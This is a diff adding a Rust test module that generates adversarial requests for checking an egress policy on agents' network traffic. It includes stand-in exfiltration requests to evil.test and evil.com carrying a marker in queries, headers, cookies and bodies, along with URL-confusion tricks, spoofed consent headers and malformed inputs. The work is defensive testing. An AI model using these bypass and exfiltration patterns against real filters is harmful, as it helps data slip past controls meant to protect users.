@@ -1,0 +1,384 @@
+//! Requests to hosts that the project names nowhere, made of all that the policy's text mentions.
+
+use http::HeaderName;
+
+use super::judge::MARKER;
+use super::named::Named;
+use super::probe::Ask;
+use super::shape::sent_method;
+use super::upstream::Behaviour;
+
+/// One attack that is the same for every agent.
+pub(super) struct Attack {
+    pub(super) class: &'static str,
+    pub(super) case: String,
+    pub(super) ask: Ask,
+}
+
+/// Names that proxies take targets from.
+const USUAL_NAMES: [&str; 12] = [
+    "url",
+    "uri",
+    "u",
+    "target",
+    "to",
+    "dest",
+    "q",
+    "host",
+    "next",
+    "redirect",
+    "callback",
+    "x-target-url",
+];
+
+/// Values that stand for consent.
+const USUAL_VALUES: [&str; 8] = ["1", "true", "yes", "on", "admin", "internal", "localhost", "127.0.0.1"];
+
+/// All of them. `agents` are the agents' names.
+pub(super) fn attacks(named: &Named, agents: &[String]) -> Vec<Attack> {
+    let mut attacks = Attacks(Vec::new());
+    attacks.exfiltration();
+    attacks.words(named);
+    attacks.consent(named, agents);
+    attacks.targets(named);
+    attacks.malformed(named);
+    attacks.0
+}
+
+struct Attacks(Vec<Attack>);
+
+impl Attacks {
+    fn add(&mut self, class: &'static str, case: impl Into<String>, ask: Option<Ask>) {
+        if let Some(ask) = ask {
+            let case = case.into();
+            self.0.push(Attack { class, case, ask });
+        }
+    }
+
+    fn exfiltration(&mut self) {
+        let class = "exfiltration to a stranger";
+        let methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"];
+        // The first few have all methods, and all places.
+        for turn in 0..PLACES {
+            for (number, method) in methods.iter().enumerate() {
+                let place = (turn + number) % PLACES;
+                if let Some((name, ask)) = hidden(method, place) {
+                    self.add(class, format!("{method}, data in {name}"), ask);
+                }
+            }
+        }
+        for (case, url) in [
+            ("in the clear", "http://evil.test/"),
+            ("another port", "https://evil.test:8443/"),
+            ("an address", "https://93.184.215.14/"),
+            (
+                "an address of version 6",
+                "https://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/",
+            ),
+            ("a final dot", "https://evil.test./"),
+            ("a name of one label", "https://evil/"),
+            ("a name under .com", "https://evil.com/"),
+            ("a name under .example", "https://evil.example/"),
+            ("a style sheet", "https://evil.test/style.css"),
+            ("a health check", "https://evil.test/health"),
+            ("a well-known file", "https://evil.test/.well-known/security.txt"),
+            ("robots.txt", "https://evil.test/robots.txt"),
+        ] {
+            self.add(class, case, Ask::new("GET", &format!("{url}?d={MARKER}")));
+        }
+        let preflight = Ask::new("OPTIONS", "https://evil.test/").map(|ask| {
+            ask.header("origin", "https://a.example")
+                .header("access-control-request-method", "GET")
+        });
+        self.add(class, "a preflight request", preflight);
+        let socket = Ask::new("GET", "https://evil.test/").map(|ask| ask.header("accept", "text/event-stream"));
+        self.add(class, "a stream of events", socket);
+    }
+
+    /// The policy's own words where a careless comparison finds them.
+    fn words(&mut self, named: &Named) {
+        let class = "the policy's words in a stranger's URL";
+        for word in &named.fragments {
+            let lower = word.to_lowercase();
+            for url in [
+                format!("https://{lower}.evil.test/"),
+                format!("https://{lower}evil.test/"),
+                format!("https://evil-{lower}.test/"),
+                format!("https://evil{lower}/"),
+                format!("https://evil.{lower}/"),
+                format!("https://evil.test/{word}"),
+                format!("https://evil.test/{word}/x"),
+                format!("https://evil.test/x.{word}"),
+                format!("https://evil.test/x{word}"),
+                format!("https://evil.test/?{word}=1"),
+                format!("https://evil.test/?x={word}"),
+            ] {
+                self.add(class, format!("the word {word:?}"), Ask::new("GET", &url));
+            }
+        }
+        for (path, _) in &named.paths {
+            for method in ["GET", "POST"] {
+                let case = format!("{method} of the path {path}");
+                self.add(class, &*case, Ask::new(method, &format!("https://evil.test{path}")));
+                self.add(
+                    class,
+                    &*case,
+                    Ask::new(method, &format!("https://evil.test{path}/x?d={MARKER}")),
+                );
+                self.add(class, case, Ask::new(method, &format!("https://evil.test/x{path}")));
+            }
+        }
+        for (method, _) in &named.methods {
+            let ask = Ask::new(&sent_method(method), "https://evil.test/");
+            self.add(class, format!("the method {method}"), ask);
+        }
+    }
+
+    /// Names and values of the policy's text in headers, parameters and bodies, all of which agents write.
+    fn consent(&mut self, named: &Named, agents: &[String]) {
+        let class = "what an agent says of itself";
+        let mut names: Vec<&str> = named
+            .names
+            .iter()
+            .map(String::as_str)
+            .filter(|name| name.len() <= 60)
+            .collect();
+        // Names with a hyphen are of headers; there may be many of fields.
+        names.sort_by_key(|name| !name.contains('-'));
+        names.truncate(24);
+        let values: Vec<&str> = USUAL_VALUES
+            .iter()
+            .copied()
+            .chain(agents.iter().map(String::as_str))
+            .chain(named.samples())
+            .chain(named.values.iter().map(String::as_str))
+            .collect();
+        for value in &values {
+            let case = format!("the value {value:?}");
+            let ask = Ask::new("GET", "https://evil.test/");
+            let headers = ask.map(|ask| names.iter().fold(ask, |ask, name| with_header(ask, name, value)));
+            self.add(class, format!("{case} in headers"), headers);
+            let query = pairs(&names, value);
+            self.add(
+                class,
+                format!("{case} in the query"),
+                Ask::new("GET", &format!("https://evil.test/?{query}")),
+            );
+            let fields: serde_json::Map<String, serde_json::Value> =
+                names.iter().map(|name| ((*name).to_owned(), (*value).into())).collect();
+            let body = serde_json::Value::Object(fields).to_string();
+            let ask = Ask::new("POST", "https://evil.test/").map(|ask| ask.body("application/json", body));
+            self.add(class, format!("{case} in JSON"), ask);
+            for name in names
+                .iter()
+                .filter(|name| name.contains('-') || is_usual_header(name))
+                .take(8)
+            {
+                let ask = Ask::new("GET", "https://evil.test/").map(|ask| with_header(ask, name, value));
+                self.add(class, format!("{name}: {value}"), ask);
+            }
+        }
+    }
+
+    /// URLs of strangers where a proxy may look for its target.
+    fn targets(&mut self, named: &Named) {
+        let class = "a stranger named in a request to a host that is not one";
+        let mut names: Vec<&str> = named.names.iter().map(String::as_str).take(16).collect();
+        names.extend(USUAL_NAMES);
+        names.dedup();
+        for host in named.samples().take(4) {
+            for (case, url) in [
+                ("as it is", "https://evil.test/x".to_owned()),
+                ("with the host as a user", format!("https://{host}@evil.test/")),
+                (
+                    "with the host as a user with a password",
+                    format!("https://{host}:443@evil.test/"),
+                ),
+                ("with the host in front", format!("https://{host}.evil.test/")),
+                ("with the host in the query", format!("https://evil.test/?{host}")),
+                ("with the host in the path", format!("https://evil.test/{host}")),
+                ("with the host in the fragment", format!("https://evil.test/#{host}")),
+                ("without a scheme", "//evil.test/".to_owned()),
+                ("with a backslash", format!("https://evil.test\\@{host}/")),
+                ("a look-alike", format!("https://evil{host}/")),
+                ("a host alone", "evil.test".to_owned()),
+            ] {
+                let query = pairs(&names, &url);
+                self.add(
+                    class,
+                    format!("{case}, in the query"),
+                    Ask::new("GET", &format!("https://{host}/?{query}")),
+                );
+                let headers = Ask::new("GET", &format!("https://{host}/"))
+                    .map(|ask| names.iter().fold(ask, |ask, name| with_header(ask, name, &url)));
+                self.add(class, format!("{case}, in headers"), headers);
+                let fields = names.iter().map(|name| ((*name).to_owned(), url.clone().into()));
+                let body = serde_json::Value::Object(fields.collect()).to_string();
+                let ask = Ask::new("POST", &format!("https://{host}/")).map(|ask| ask.body("application/json", body));
+                self.add(class, format!("{case}, in JSON"), ask);
+                self.add(
+                    class,
+                    format!("{case}, in the path"),
+                    Ask::new("GET", &format!("https://{host}/{url}")),
+                );
+            }
+        }
+    }
+
+    /// What makes code fail that expects better.
+    fn malformed(&mut self, named: &Named) {
+        let class = "what makes a check fail";
+        for (case, ask) in faults("GET", "https://evil.test/", named) {
+            self.add(class, case, Some(ask));
+        }
+    }
+}
+
+/// How many places there are for an agent's data.
+const PLACES: usize = 10;
+
+/// A request to a stranger with data in a place. Nothing where its method has no such place.
+fn hidden(method: &str, place: usize) -> Option<(String, Option<Ask>)> {
+    let plain = || Ask::new(method, "https://evil.test/");
+    let with_header = |name: &str, value: String| plain().map(|ask| ask.header(name, &value));
+    let bodies = [
+        ("text/plain", MARKER.to_owned()),
+        ("application/json", format!("{{\"d\":\"{MARKER}\"}}")),
+        ("application/x-www-form-urlencoded", format!("d={MARKER}")),
+        ("application/octet-stream", format!("\u{0}\u{1}{MARKER}")),
+    ];
+    let (name, ask) = match place {
+        0 => ("the query", Ask::new(method, &format!("https://evil.test/?d={MARKER}"))),
+        1 => ("the path", Ask::new(method, &format!("https://evil.test/{MARKER}"))),
+        2 => (
+            "a label of the host",
+            Ask::new(method, &format!("https://{MARKER}.evil.test/")),
+        ),
+        3 => ("a header", with_header("x-data", MARKER.to_owned())),
+        4 => ("a cookie", with_header("cookie", format!("d={MARKER}"))),
+        5 => (
+            "the authorization",
+            with_header("authorization", format!("Bearer {MARKER}")),
+        ),
+        _ if matches!(method, "GET" | "HEAD") => return None,
+        _ => {
+            let (kind, body) = bodies.get(place - 6)?.clone();
+            return Some((format!("a body of {kind}"), plain().map(|ask| ask.body(kind, body))));
+        }
+    };
+    Some((name.to_owned(), ask))
+}
+
+fn is_usual_header(name: &str) -> bool {
+    [
+        "authorization",
+        "cookie",
+        "origin",
+        "referer",
+        "host",
+        "forwarded",
+        "via",
+        "from",
+    ]
+    .contains(&name)
+}
+
+fn with_header(ask: Ask, name: &str, value: &str) -> Ask {
+    if HeaderName::from_bytes(name.as_bytes()).is_err() {
+        return ask;
+    }
+    ask.header(name, value)
+}
+
+fn pairs(names: &[&str], value: &str) -> String {
+    deno_core::url::form_urlencoded::Serializer::new(String::new())
+        .extend_pairs(names.iter().map(|name| (name, value)))
+        .finish()
+}
+
+/// A request in all the ways that make parsers and helpers of a policy throw, and with upstreams that are down: a check that
+/// fails must not let pass.
+pub(super) fn faults(method: &str, url: &str, named: &Named) -> Vec<(String, Ask)> {
+    let mut faults = Vec::new();
+    let mut add = |case: &str, ask: Option<Ask>| faults.extend(ask.map(|ask| (case.to_owned(), ask)));
+    let base = || Ask::new(method, url);
+    let glue = if url.contains('?') { '&' } else { '?' };
+    add(
+        "a path that can not be decoded",
+        Ask::new(method, &format!("{}/%zz%ff", url.trim_end_matches('/'))),
+    );
+    add(
+        "a query that can not be decoded",
+        Ask::new(method, &format!("{url}{glue}a=%zz%ff&%")),
+    );
+    add(
+        "a very long path",
+        Ask::new(method, &format!("{}/{}", url.trim_end_matches('/'), "a".repeat(9000))),
+    );
+    add(
+        "bytes that are no text in a header",
+        base().map(|ask| ask.header("x-data", "\u{e9}\u{1f600}")),
+    );
+    add(
+        "a cookie that can not be decoded",
+        base().map(|ask| ask.header("cookie", "%zz=%ff; ; =")),
+    );
+    add(
+        "an authorization that is none",
+        base().map(|ask| ask.header("authorization", "Bearer")),
+    );
+    add(
+        "a token that is none",
+        base().map(|ask| ask.header("authorization", "Bearer a.b.c")),
+    );
+    add(
+        "every upstream is down",
+        base().map(|ask| ask.upstreams(Behaviour::Down)),
+    );
+    add(
+        "every upstream fails",
+        base().map(|ask| ask.upstreams(Behaviour::Failing)),
+    );
+    for (case, kind, body) in [
+        ("JSON that is none", "application/json", "{"),
+        ("null as JSON", "application/json", "null"),
+        ("a number as JSON", "application/json", "1"),
+        ("no JSON at all", "application/json", ""),
+        ("a list as JSON", "application/json", "[[]]"),
+        ("a form that is none", "multipart/form-data; boundary=x", "--y"),
+        (
+            "a form that can not be decoded",
+            "application/x-www-form-urlencoded",
+            "a=%zz",
+        ),
+        ("a type that is none", "x", "x"),
+    ] {
+        let method = if matches!(method, "GET" | "HEAD") {
+            "POST"
+        } else {
+            method
+        };
+        add(case, Ask::new(method, url).map(|ask| ask.body(kind, body)));
+    }
+    let names: Vec<&str> = named.names.iter().map(String::as_str).collect();
+    for value in ["%zz", "{", "", "null", "-1"] {
+        let headers = base().map(|ask| names.iter().fold(ask, |ask, name| with_header(ask, name, value)));
+        add("headers that can not be read", headers);
+        if !names.is_empty() {
+            let query = if value == "%zz" {
+                names
+                    .iter()
+                    .map(|name| format!("{name}=%zz"))
+                    .collect::<Vec<_>>()
+                    .join("&")
+            } else {
+                pairs(&names, value)
+            };
+            add(
+                "parameters that can not be read",
+                Ask::new(method, &format!("{url}{glue}{query}")),
+            );
+        }
+    }
+    faults
+}
